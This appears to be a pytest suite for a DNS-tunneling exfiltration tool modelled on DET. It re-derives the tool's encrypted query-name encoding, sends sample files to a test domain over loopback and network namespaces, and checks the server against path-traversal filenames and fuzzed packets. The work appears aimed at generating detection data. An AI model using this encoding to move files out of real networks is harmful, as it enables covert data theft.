"""det.py: known-answer names from an independent encoder, real-UDP round trips, hostile input.

The reference encoder/decoder below is written from DESIGN.md section 2 and det_codec's layout
docstring, not from det's code, so a wire-format change in det shows up here.
"""

from __future__ import annotations

import base64
import dataclasses
import hashlib
import json
import os
import random
import shutil
import socket
import string
import subprocess
import sys
import time
import uuid
import zlib
from contextlib import contextmanager
from pathlib import Path

import pytest
from cryptography.hazmat.primitives import padding
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

from data_generating_codes.det import send_file
from data_generating_codes.det_codec import answer, new_job_id, plan_queries
from data_generating_codes.det_config import DetConfig, load_config, style_config
from data_generating_codes.det_server import DetServer
from data_generating_codes.det_styles import ENCODINGS, STYLES
from exfil.cli import UserError
from exfil.dnsmsg import pack_query, parse_message, qtype_number

ROOT = Path(__file__).resolve().parents[1]
SCRIPT = ROOT / "data_generating_codes" / "det.py"
DATA = ROOT / "data_generating_codes" / "ExfiltrationData"
DOMAIN = "det-exfil.test"
PASSPHRASE = "correct horse battery staple"
BASE = DetConfig(domain=DOMAIN, passphrase=PASSPHRASE, port=0, min_sleep=0.0,
                     max_sleep=0.0, query_gap=0.0, reply_timeout=2.0)  # fmt: skip

# ---------------------------------------------------------------------------
# independent reference encoder / decoder

B36 = string.digits + string.ascii_lowercase
B128 = string.ascii_letters + string.digits + bytes(range(0xBC, 0xFE)).decode("latin-1")


def ref_int(data: bytes, alphabet: str) -> str:
    number, out = int.from_bytes(b"\x01" + data, "big"), ""
    while number:
        out = alphabet[number % len(alphabet)] + out
        number //= len(alphabet)
    return out


def ref_unint(text: str, alphabet: str) -> bytes:
    number = 0
    for char in text:
        number = number * len(alphabet) + alphabet.index(char)
    return number.to_bytes((number.bit_length() + 7) // 8, "big")[1:]


REF_ENCODE = {
    "hex": lambda b: b.hex(),
    "base32": lambda b: base64.b32encode(b).decode().lower().rstrip("="),
    "base36": lambda b: ref_int(b, B36),
    "base64": lambda b: base64.b64encode(b).decode().rstrip("="),
    "base64url": lambda b: base64.urlsafe_b64encode(b).decode().rstrip("="),
    "base128": lambda b: ref_int(b, B128),
}
REF_DECODE = {
    "hex": bytes.fromhex,
    "base32": lambda t: base64.b32decode(t.upper() + "=" * (-len(t) % 8)),
    "base36": lambda t: ref_unint(t, B36),
    "base64": lambda t: base64.b64decode(t + "=" * (-len(t) % 4)),
    "base64url": lambda t: base64.urlsafe_b64decode(t + "=" * (-len(t) % 4)),
    "base128": lambda t: ref_unint(t, B128),
}


def ref_messages(data, filename, job_id, iv, chunk, inner_hex=True) -> list[bytes]:
    key = hashlib.sha256(PASSPHRASE.encode()).digest()
    padder = padding.PKCS7(128).padder()
    plain = padder.update(zlib.compress(data)) + padder.finalize()
    enc = Cipher(algorithms.AES(key), modes.CBC(iv)).encryptor()
    blob = iv + enc.update(plain) + enc.finalize()
    md5 = hashlib.md5(data).hexdigest()
    out = [f"{job_id}|!|{filename}|!|REGISTER|!|{md5}".encode()]
    for index, start in enumerate(range(0, len(blob), chunk)):
        piece = blob[start : start + chunk]
        out.append(
            f"{job_id}|!|{index}|!|".encode() + (piece.hex().encode() if inner_hex else piece)
        )
    out.append(f"{job_id}|!|{len(out) - 1}|!|DONE".encode())
    return out


def ref_names(messages, job_id, encoding="hex", label=63, piece=None) -> list[list[str]]:
    """DET framing: <jobid><piece> in labels of `label`, a short (or bare) name ends a message."""
    piece = piece or 66 - len(DOMAIN) - len(job_id)
    plan = []
    for message in messages:
        text = REF_ENCODE[encoding](message)
        cuts = [text[i : i + piece] for i in range(0, len(text), piece)]
        if len(text) % piece == 0:
            cuts.append("")
        names = []
        for cut in cuts:
            full = job_id + cut
            names.append(".".join(full[i : i + label] for i in range(0, len(full), label)))
        plan.append([f"{name}.{DOMAIN}" for name in names])
    return plan


def ref_piece(one_label: bool, label: int, name_len: int) -> int:
    """Most data characters after the job id such that the whole name fits the layout."""
    best = 0
    for size in range(1, 254):
        labels = -(-(size + 7) // label)
        if (labels == 1 or not one_label) and size + 7 + labels + len(DOMAIN) <= name_len:
            best = size
    return best


def ref_decode(names, encoding="hex", counter=False, piece=0) -> dict[str, bytes]:
    """Recover every file carried by a list of query names (any order for counter layouts)."""
    pieces: dict[str, list] = {}
    for name in names:
        labels = name[: -len(DOMAIN) - 1].split(".")
        job = labels[0][:7]
        if counter:
            value = int(labels[0][7:], 36)
            pieces.setdefault(job, []).append((value // 2, value % 2, "".join(labels[1:])))
        else:
            pieces.setdefault(job, []).append("".join(labels)[7:])
    files = {}
    for job, items in pieces.items():
        messages, text = [], ""
        if counter:
            for _, last, data in sorted(items):
                text += data
                if last:
                    messages.append(REF_DECODE[encoding](text))
                    text = ""
        else:
            for data in items:
                text += data
                if len(data) < (piece or 66 - len(DOMAIN) - 7):
                    messages.append(REF_DECODE[encoding](text))
                    text = ""
        fields = [m.split(b"|!|", 2) for m in messages]
        md5 = messages[0].rsplit(b"|!|", 1)[1].decode()
        chunks = dict((int(f[1]), f[2]) for f in fields[1:-1])
        blob = b"".join(chunks[i] for i in range(len(chunks)))
        blob = bytes.fromhex(blob.decode()) if encoding == "hex" else blob
        key = hashlib.sha256(PASSPHRASE.encode()).digest()
        dec = Cipher(algorithms.AES(key), modes.CBC(blob[:16])).decryptor()
        unpad = padding.PKCS7(128).unpadder()
        plain = unpad.update(dec.update(blob[16:]) + dec.finalize()) + unpad.finalize()
        data = zlib.decompress(plain)
        assert hashlib.md5(data).hexdigest() == md5
        files[job] = data
    return files


def flat(plan) -> list[str]:
    return [name for message in plan for name, _ in message]


# ---------------------------------------------------------------------------
# known answers


def test_det_known_answer_names_and_decoder():
    data = (DATA / "report.txt").read_bytes()
    iv, job_id = bytes(range(16)), "Ab3xY9z"
    cfg = dataclasses.replace(BASE, min_bytes=64, max_bytes=64)
    got_job, plan = plan_queries(data, "report.txt", cfg, random.Random(0), job_id, iv)
    expected = ref_names(ref_messages(data, "report.txt", job_id, iv, 64), job_id)
    assert got_job == job_id
    assert [[n for n, _ in m] for m in plan] == expected
    assert all(len(m[0][0]) == 67 for m in plan if len(m) > 1)  # DET's full name length
    assert {q for m in plan for _, q in m} == {"A"}
    assert ref_decode(flat(plan)) == {job_id: data}


def test_exact_multiple_message_ends_with_bare_terminator(tmp_path):
    piece = 66 - len(DOMAIN) - 7
    # REGISTER hex length is 2 * (56 + len(name)): pick a name that makes it a multiple.
    size = next(n for n in range(1, 200) if 2 * (56 + n) % piece == 0)
    name = "f" * (size - 4) + ".txt"
    job_id, plan = plan_queries(b"x" * 500, name, BASE, random.Random(1), "Qw3rTy7")
    assert plan[0][-1][0] == f"Qw3rTy7.{DOMAIN}"
    assert all(len(n) == 67 for n, _ in plan[0][:-1])
    server = DetServer(BASE, tmp_path)
    try:
        for n in flat(plan):
            server.handle(pack_query(7, n, 1))
        assert server.written and server.written[0].read_bytes() == b"x" * 500
    finally:
        server.close()


@pytest.mark.parametrize("encoding", sorted(ENCODINGS))
@pytest.mark.parametrize("layout,label,name_len", [("single-label", 63, 67),
                                                   ("multi-label", 63, 253)])  # fmt: skip
def test_encoding_known_answer(encoding, layout, label, name_len):
    data = bytes(range(256)) * 3
    iv, job_id = b"\x11" * 16, "Zq81Mx0"
    cfg = dataclasses.replace(BASE, encoding=encoding, layout=layout, min_bytes=100, max_bytes=100)
    _, plan = plan_queries(data, "v.bin", cfg, random.Random(0), job_id, iv)
    piece = ref_piece(layout == "single-label", label, name_len)
    msgs = ref_messages(data, "v.bin", job_id, iv, 100, inner_hex=encoding == "hex")
    assert [[n for n, _ in m] for m in plan] == ref_names(msgs, job_id, encoding, label, piece)
    assert all(len(n.encode("latin-1")) <= name_len for n in flat(plan))
    assert ref_decode(flat(plan), encoding, piece=piece) == {job_id: data}


@pytest.mark.parametrize("style", ["base64-cname", "base64url-mx", "base32-burst"])
def test_counter_layouts_decode_in_any_order(style):
    cfg = style_config(style, BASE)
    data = (DATA / "customers.csv").read_bytes()
    job_id, plan = plan_queries(data, "e.csv", cfg, random.Random(5))
    names = flat(plan)
    random.Random(9).shuffle(names)
    assert ref_decode(names, cfg.encoding, counter=True) == {job_id: data}
    heads = [n.split(".")[0] for n in flat(plan)]
    assert [int(h[7:], 36) // 2 for h in heads] == list(range(len(heads)))
    if cfg.layout == "depth":  # data spread over varying domain depths
        assert len({n.count(".") for n in flat(plan)}) > 1


def test_counter_layout_known_answer():
    """`<jobid><4 base36 digits of 2*seq+last>.<data in 50-char labels>.<domain>`, <= 160."""
    cfg = dataclasses.replace(style_config("base64-cname", BASE), min_bytes=90, max_bytes=90)
    data, iv, job_id = bytes(range(200)), b"\x22" * 16, "Cx5Pq0w"
    _, plan = plan_queries(data, "c.bin", cfg, random.Random(0), job_id, iv)
    fixed = len(DOMAIN) + 1 + 7 + 4 + 1
    piece = max(d for d in range(1, 160) if fixed + d + -(-d // 50) - 1 <= 160)
    expected, seq = [], 0
    for message in ref_messages(data, "c.bin", job_id, iv, 90, inner_hex=False):
        text, names = REF_ENCODE["base64"](message), []
        for start in range(0, len(text), piece):
            cut = text[start : start + piece]
            value = 2 * seq + (start + piece >= len(text))
            counter = "".join(B36[value // 36**k % 36] for k in (3, 2, 1, 0))
            labels = [cut[i : i + 50] for i in range(0, len(cut), 50)]
            names.append(".".join([job_id + counter, *labels, DOMAIN]))
            seq += 1
        expected.append(names)
    assert [[n for n, _ in m] for m in plan] == expected
    assert {q for m in plan for _, q in m} == {"CNAME"}


def test_job_ids_and_config_validation(tmp_path):
    rng = random.Random(3)
    for _ in range(50):
        job = new_job_id(rng)
        assert len(job) == len(set(job)) == 7 and job.isalnum() and job.isascii()
    bad = tmp_path / "bad.json"
    for text in ["{", '{"domain": "a.test"}', '{"domain": "x.test", "passphrase": "p", "zz": 1}',
                 '{"domain": "x.test", "passphrase": "p", "encoding": "rot13"}',
                 '{"domain": "' + "a" * 60 + '.test", "passphrase": "p"}']:  # fmt: skip
        bad.write_text(text)
        with pytest.raises(UserError):
            load_config(bad)
    sample = load_config(ROOT / "data_generating_codes" / "config-sample.json")
    assert sample.layout == "single-label" and sample.qtypes == ["A"]
    original = tmp_path / "det-original.json"  # DET's own config shape loads too
    original.write_text(json.dumps({
        "plugins": {"http": {"target": "10.0.0.1", "port": 8080},
                    "dns": {"key": "google.com", "target": "127.0.0.2", "port": 53}},
        "AES_KEY": "THISISACRAZYKEY", "max_time_sleep": 10, "min_time_sleep": 1,
        "max_bytes_read": 400, "min_bytes_read": 300, "compression": 1}))  # fmt: skip
    loaded = load_config(original)
    assert (loaded.domain, loaded.passphrase, loaded.target, loaded.max_sleep) == (
        "google.com", "THISISACRAZYKEY", "127.0.0.2", 10)  # fmt: skip
    assert loaded.compression is True and loaded.min_bytes == 300


# ---------------------------------------------------------------------------
# real UDP on loopback


@contextmanager
def running_server(cfg: DetConfig, out: Path):
    """A DetServer on an ephemeral loopback port; yields it and the client's config."""
    server = DetServer(dataclasses.replace(cfg, port=0), out)
    thread = server.start()
    try:
        yield server, dataclasses.replace(cfg, port=server.address[1])
    finally:
        server.stop()
        thread.join(5)
        server.close()


def test_every_exfiltration_file_round_trips_over_udp(tmp_path):
    files = sorted(p for p in DATA.iterdir() if p.suffix != ".md")
    assert len(files) >= 6 and sum(p.stat().st_size for p in DATA.iterdir()) < 200_000
    with running_server(BASE, tmp_path) as (server, cfg):
        rng = random.Random(11)
        results = [send_file(path, cfg, rng=rng) for path in files]
    assert all(r.unanswered == 0 for r in results)
    for path in files:
        assert (tmp_path / path.name).read_bytes() == path.read_bytes()
    assert server.counts["written"] == len(files) and not server.drops


@pytest.mark.parametrize("style", sorted(STYLES))
def test_every_style_round_trips_over_udp(style, tmp_path):
    cfg = dataclasses.replace(style_config(style, BASE), min_sleep=0.0, max_sleep=0.0,
                              query_gap=0.0)  # fmt: skip
    source = DATA / "photo-street.jpg"
    seen: list[bytes] = []
    with running_server(cfg, tmp_path / "out") as (server, client_cfg):
        original = server.handle

        def spy(datagram, now=None):
            seen.append(datagram)
            return original(datagram, now)

        server.handle = spy
        send_file(source, client_cfg, rng=random.Random(2))
    assert (tmp_path / "out" / source.name).read_bytes() == source.read_bytes()
    qtypes = {STYLES[style].get("qtypes", ["A"])[0]}
    got = {parse_message(d).questions[0][1] for d in seen}
    assert {qtype_number(q) for q in qtypes} <= got


def test_answers_carry_downstream_data_per_style():
    for style, rtype in [
        ("base32-txt", "TXT"),
        ("base64-cname", "CNAME"),
        ("base128-null", "NULL"),
        ("base64url-mx", "MX"),
        ("base36-short", "A"),
    ]:
        cfg = style_config(style, BASE)
        _, plan = plan_queries(b"abc", "a", cfg, random.Random(1))
        name = plan[0][0][0]
        reply = parse_message(answer(pack_query(42, name, qtype_number(rtype)), cfg))
        assert reply.id == 42 and reply.is_response and reply.rcode == 0
        assert [r.rtype for r in reply.answers] == [qtype_number(rtype)], style
    aaaa = parse_message(answer(pack_query(7, name, qtype_number("AAAA")), cfg))
    assert aaaa.rcode == 0 and not aaaa.answers  # fixed-A style: AAAA gets no data
    reply = parse_message(answer(pack_query(5, "Ab3xY9z00." + DOMAIN, 1), BASE))
    assert reply.rcode == 3 and not reply.answers  # DET default: NXDOMAIN
    reply = parse_message(answer(pack_query(6, "www.example.com", 1), BASE))
    assert reply.rcode == 5  # not our zone: REFUSED


def test_duplicates_and_reordered_messages_are_tolerated(tmp_path):
    data = (DATA / "chart.png").read_bytes()
    for style in ["det", "base32-burst"]:
        cfg = style_config(style, BASE)
        job_id, plan = plan_queries(data, "chart.png", cfg, random.Random(4))
        messages = [plan[0], *random.Random(1).sample(plan[1:], len(plan) - 1)]
        names = [n for m in messages for n, _ in m for _ in range(2)]  # every query twice
        if cfg.layout == "counter":
            random.Random(2).shuffle(names)  # counters allow any order
        server = DetServer(cfg, tmp_path / style)
        try:
            for name in names:
                assert server.handle(pack_query(1, name, 1)) is not None
            assert (tmp_path / style / "chart.png").read_bytes() == data
            dropped = server.drops["duplicate-piece"] + server.drops["finished-job"]
            assert dropped == len(names) // 2 and server.counts["written"] == 1
        finally:
            server.close()


# ---------------------------------------------------------------------------
# hostile input


def test_register_paths_never_escape_the_output_folder(tmp_path):
    out = tmp_path / "a" / "b" / "out"
    before = sorted(p for p in tmp_path.rglob("*"))
    names = ["../../x", "/etc/passwd_det_test", "..", "..\\..\\win.ini", "x", "\x00.txt"]
    server = DetServer(BASE, out)
    try:
        for number, name in enumerate(names):
            _, plan = plan_queries(b"payload %d" % number, name, BASE, random.Random(number))
            for query in flat(plan):
                server.handle(pack_query(number, query, 1))
    finally:
        server.close()
    written = sorted(p.name for p in out.iterdir())
    assert written == sorted(["x", "passwd_det_test", "unnamed", "win.ini", "x-1", "_.txt"])
    assert sorted(p for p in tmp_path.rglob("*") if out not in p.parents and p != out) == sorted(
        before + [tmp_path / "a", tmp_path / "a" / "b"]
    )
    assert not Path("/etc/passwd_det_test").exists()


def test_bad_checksum_and_bad_key_are_reported_not_written(tmp_path):
    data_a, data_b = b"A" * 2000, b"B" * 2000
    _, plan_a = plan_queries(data_a, "a.txt", BASE, random.Random(1), "Job1234", b"\0" * 16)
    _, plan_b = plan_queries(data_b, "a.txt", BASE, random.Random(1), "Job1234", b"\0" * 16)
    wrong_key = dataclasses.replace(BASE, passphrase="other")
    for cfg, plan in [(BASE, [plan_b[0], *plan_a[1:]]), (wrong_key, plan_a)]:
        out = tmp_path / uuid.uuid4().hex
        server = DetServer(cfg, out)
        for query in flat(plan):
            server.handle(pack_query(3, query, 1))
        server.close()
        assert list(out.iterdir()) == []
        assert server.counts["failed"] == 1 and not server.written
        assert server.reports[-1]["status"] == "failed"


def _exchange(sock, payload: bytes) -> bytes | None:
    """Send a query and return the reply with its id (earlier replies are skipped)."""
    sock.send(payload)
    try:
        while (reply := sock.recv(65535))[:2] != payload[:2]:
            pass
    except TimeoutError:
        return None
    return reply


def test_garbage_bogus_jobs_and_unfinished_jobs_over_udp(tmp_path):
    cfg = dataclasses.replace(BASE, max_jobs=64, job_timeout=0.5)
    with running_server(cfg, tmp_path) as (server, client_cfg):
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.connect(("127.0.0.1", client_cfg.port))
        sock.settimeout(2.0)
        rng = random.Random(8)
        valid = pack_query(9, "Ab3xY9z00." + DOMAIN, 1)
        garbage = [rng.randbytes(rng.randint(0, 80)) for _ in range(200)]
        garbage += [valid[:cut] for cut in range(len(valid))]  # truncated messages
        garbage.append(bytes(12) + b"\xc0\x0c\x00\x01\x00\x01")  # pointer to itself
        garbage[0:0] = [pack_query(1, "zz." + DOMAIN, 1), pack_query(2, "a.other.test", 1)]
        for payload in garbage:
            sock.send(payload)
        assert parse_message(_exchange(sock, valid)).id == 9
        # a job that never finishes: REGISTER and a few chunks, no DONE
        never_id, plan = plan_queries(b"z" * 5000, "never.txt", cfg, random.Random(1))
        for query in flat(plan[:-1]):
            assert _exchange(sock, pack_query(3, query, 1)) is not None
        assert never_id in server.jobs  # open, waiting for its DONE
        # 10,000 bogus job ids
        for number in range(10_000):
            job = new_job_id(rng)
            sock.send(pack_query(number, f"{job}{number:04x}." + DOMAIN, 1))
            if number % 50 == 0:
                assert _exchange(sock, valid) is not None
            if number == 100:  # past the cap; reports are bounded: read them while it is kept
                in_step = pack_query(60_000, "Ab3xY9z00." + DOMAIN, 1)  # no other query has its id
                assert _exchange(sock, in_step) is not None  # the server has read all sent so far
                early = list(server.reports)
        assert len(server.jobs) <= cfg.max_jobs
        time.sleep(1.5)  # past job_timeout: the sweep reports what is left
        reply = _exchange(sock, valid)
        assert reply is not None and parse_message(reply).rcode == 3
        sock.close()
        # the server still works for a real file afterwards
        send_file(DATA / "report.txt", client_cfg, rng=random.Random(3))
    assert [p.name for p in tmp_path.iterdir()] == ["report.txt"]
    assert len(server.jobs) == 0 and server.counts["evicted"] >= 10_000 - cfg.max_jobs
    # the never job was the least recently used when the job cap was first reached (only a
    # machine stalled past job_timeout would time it out first): closed once, never written
    never = [r for r in early if r["job_id"] == never_id]
    assert len(never) == 1, early
    why = {"evicted": f"job cap {cfg.max_jobs} reached",
           "incomplete": f"no query for {cfg.job_timeout:g} s"}  # fmt: skip
    assert never[0]["reason"] == why.get(never[0]["status"]), never
    tally = (never[0]["file"], never[0]["queries"], never[0]["chunks"], never[0]["count"])
    assert tally == ("never.txt", len(flat(plan[:-1])), len(plan) - 2, None), never
    assert never_id not in server.jobs
    assert server.counts["incomplete"] + server.counts["evicted"] >= 10_001
    assert len(server.reports) <= server.reports.maxlen and len(server.finished) <= 8192
    for reason in ["malformed-truncated-header", "bad-job-id", "outside-domain"]:
        assert server.drops[reason] > 0, reason


def test_unfinished_job_is_reported_by_timeout(tmp_path):
    cfg = dataclasses.replace(BASE, job_timeout=0.2)
    server = DetServer(cfg, tmp_path)
    _, plan = plan_queries(b"q" * 3000, "half.bin", cfg, random.Random(1))
    for query in flat(plan[:2]):
        server.handle(pack_query(1, query, 1), now=100.0)
    server.expire(100.1)
    assert server.counts["incomplete"] == 0
    server.expire(100.5)
    assert server.reports[-1]["status"] == "incomplete" and server.reports[-1]["file"] == "half.bin"
    server.close()
    assert list(tmp_path.iterdir()) == []


# ---------------------------------------------------------------------------
# command line, loopback and network namespaces


def _config_file(tmp_path: Path, **changes) -> Path:
    path = tmp_path / "config.json"
    values = dataclasses.asdict(dataclasses.replace(BASE, **changes))
    path.write_text(json.dumps(values))
    return path


def _start_server(cmd: list[str]) -> tuple[subprocess.Popen, str]:
    proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    line = proc.stdout.readline()
    assert line.startswith("listening on"), (line, proc.stderr.read() if proc.poll() else "")
    return proc, line.split()[2]


def test_cli_server_and_client_over_loopback(tmp_path):
    config = _config_file(tmp_path)
    out = tmp_path / "received"
    server, where = _start_server([sys.executable, str(SCRIPT), "-c", str(config), "-L",
                                   "--port", "0", "--out", str(out), "--exit-after-files", "2",
                                   "--max-seconds", "30"])  # fmt: skip
    try:
        port = where.rsplit(":", 1)[1]
        for seed, name in enumerate(["report.txt", "diagram.png"]):
            client = subprocess.run([sys.executable, str(SCRIPT), "-c", str(config), "-f",
                                     str(DATA / name), "--port", port, "--seed", str(seed)],
                                    capture_output=True, text=True, timeout=30)  # fmt: skip
            assert client.returncode == 0, client.stderr
        stdout, _ = server.communicate(timeout=30)
    finally:
        server.kill()
    assert server.returncode == 0 and "written" in stdout
    for name in ["report.txt", "diagram.png"]:
        assert (out / name).read_bytes() == (DATA / name).read_bytes()


@pytest.mark.parametrize("flag", ["-f", "-d"])
def test_client_missing_input_is_one_line_exit_2(tmp_path, flag):
    config = _config_file(tmp_path)
    proc = subprocess.run(
        [sys.executable, str(SCRIPT), "-c", str(config), flag, str(tmp_path / "missing")],
        capture_output=True,
        text=True,
        timeout=30,
    )
    assert proc.returncode == 2
    assert len(proc.stderr.strip().splitlines()) == 1 and "missing" in proc.stderr


def _ip(*args: str) -> None:
    subprocess.run(["ip", *args], check=True, capture_output=True, timeout=20)


@pytest.mark.netns
@pytest.mark.skipif(os.geteuid() != 0, reason="netns mode needs root to create namespaces")
@pytest.mark.skipif(shutil.which("ip") is None, reason="netns mode needs iproute2's `ip`")
def test_netns_round_trip_over_veth(tmp_path):
    tag = uuid.uuid4().hex[:6]
    server_ns, client_ns = f"detS{tag}", f"detC{tag}"
    veth_s, veth_c = f"vds{tag}", f"vdc{tag}"
    subnet = 16 + int(tag[:2], 16) % 200
    server_ip, client_ip = f"10.213.{subnet}.1", f"10.213.{subnet}.2"
    out = tmp_path / "received"
    files = sorted(DATA.iterdir())  # -d sends every file in the folder, README.md too
    created: list[str] = []
    try:
        for ns in (server_ns, client_ns):
            try:
                _ip("netns", "add", ns)
            except subprocess.CalledProcessError as error:
                pytest.skip(f"cannot create a network namespace here: {error.stderr!r}")
            created.append(ns)
        _ip("link", "add", veth_s, "netns", server_ns, "type", "veth", "peer", "name", veth_c,
            "netns", client_ns)  # fmt: skip
        for ns, dev, address in [(server_ns, veth_s, server_ip), (client_ns, veth_c, client_ip)]:
            _ip("-n", ns, "addr", "add", f"{address}/30", "dev", dev)
            _ip("-n", ns, "link", "set", dev, "up")
            _ip("-n", ns, "link", "set", "lo", "up")
        config = _config_file(tmp_path, target=server_ip, port=53)
        server, _ = _start_server(["ip", "netns", "exec", server_ns, sys.executable, str(SCRIPT),
                                   "-c", str(config), "-L", "--out", str(out), "--exit-after-files",
                                   str(len(files)), "--max-seconds", "60"])  # fmt: skip
        try:
            client = subprocess.run(["ip", "netns", "exec", client_ns, sys.executable, str(SCRIPT),
                                     "-c", str(config), "-d", str(DATA), "--seed", "5"],
                                    capture_output=True, text=True, timeout=60)  # fmt: skip
            assert client.returncode == 0, client.stderr
            server.communicate(timeout=60)
        finally:
            server.kill()
    finally:
        for ns in created:
            subprocess.run(["ip", "netns", "del", ns], capture_output=True, timeout=20)
    assert server.returncode == 0
    for path in files:
        assert (out / path.name).read_bytes() == path.read_bytes()


def test_client_gives_up_when_nobody_answers(tmp_path):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as silent:
        silent.bind(("127.0.0.1", 0))  # bound but never answers
        cfg = dataclasses.replace(BASE, port=silent.getsockname()[1], reply_timeout=0.05,
                                  retries=0, give_up=3)  # fmt: skip
        started = time.monotonic()
        with pytest.raises(UserError, match="stopped answering"):
            send_file(DATA / "report.txt", cfg, rng=random.Random(1))
        assert time.monotonic() - started < 2


def test_memory_caps_fail_big_jobs_and_evict_old_ones(tmp_path):
    cfg = dataclasses.replace(BASE, max_job_bytes=4000, max_total_bytes=20_000)
    server = DetServer(cfg, tmp_path)
    try:
        _, big = plan_queries(os.urandom(20_000), "big.bin", cfg, random.Random(1))
        for query in flat(big):
            server.handle(pack_query(1, query, 1))
        assert (
            server.reports[-1]["status"] == "failed"
            and "max_job_bytes" in (server.reports[-1]["reason"])
        )
        for number in range(40):  # 40 unfinished jobs holding ~0.8 kB each
            _, plan = plan_queries(os.urandom(2000), "s.bin", cfg, random.Random(number))
            for query in flat(plan[:3]):
                server.handle(pack_query(1, query, 1))
            assert server.held <= cfg.max_total_bytes
        assert server.counts["evicted"] > 0 and 0 < len(server.jobs) < 40
        assert server.held == sum(job.size for job in server.jobs.values())
    finally:
        server.close()
    assert server.held == 0 and list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("signum", [15, 2])  # SIGTERM, SIGINT (Ctrl-C)
def test_cli_server_stops_cleanly_on_signal(tmp_path, signum):
    config = _config_file(tmp_path)
    server, where = _start_server([sys.executable, str(SCRIPT), "-c", str(config), "-L",
                                   "--port", "0", "--out", str(tmp_path / "rx")])  # fmt: skip
    try:
        _, plan = plan_queries(b"k" * 3000, "half.txt", BASE, random.Random(1))
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.connect(("127.0.0.1", int(where.rsplit(":", 1)[1])))
            sock.settimeout(5)
            for query in flat(plan[:2]):
                assert _exchange(sock, pack_query(4, query, 1)) is not None
        server.send_signal(signum)
        stdout, stderr = server.communicate(timeout=10)
    finally:
        server.kill()
    assert server.returncode == 0, stderr
    assert "incomplete" in stdout and "half.txt" in stdout and "summary:" in stdout
    assert "Traceback" not in stderr and list((tmp_path / "rx").iterdir()) == []


def test_fuzzed_datagrams_never_break_the_server(tmp_path):
    from hypothesis import HealthCheck, given, settings
    from hypothesis import strategies as st

    cfg = style_config("base32-burst", BASE)
    server = DetServer(cfg, tmp_path)
    alphabet = st.sampled_from(list(b"abcdefghijklmnopqrstuvwxyz0123456789ABZ-_.\xff"))
    labels = st.lists(st.binary(min_size=1, max_size=63).map(bytes), max_size=4)
    names = st.tuples(st.lists(alphabet, min_size=7, max_size=40).map(bytes), labels)

    @settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
    @given(raw=st.binary(max_size=300), name=names)
    def check(raw, name):
        head, rest = name
        qname = b".".join([head.replace(b".", b"x"), *[x.replace(b".", b"y") for x in rest]])
        for datagram in [raw, b"\x12\x34" + raw, _query_bytes(qname + b"." + DOMAIN.encode())]:
            server.handle(datagram)
        assert len(server.jobs) <= cfg.max_jobs and server.held <= cfg.max_total_bytes

    try:
        check()
    finally:
        server.close()
    assert server.drops["internal-error"] == 0 and list(tmp_path.iterdir()) == []


def _query_bytes(qname: bytes) -> bytes:
    try:
        return pack_query(1, qname, 1)
    except ValueError:  # a name DNS cannot carry: send its first 255 bytes raw instead
        return bytes(12) + qname[:255]
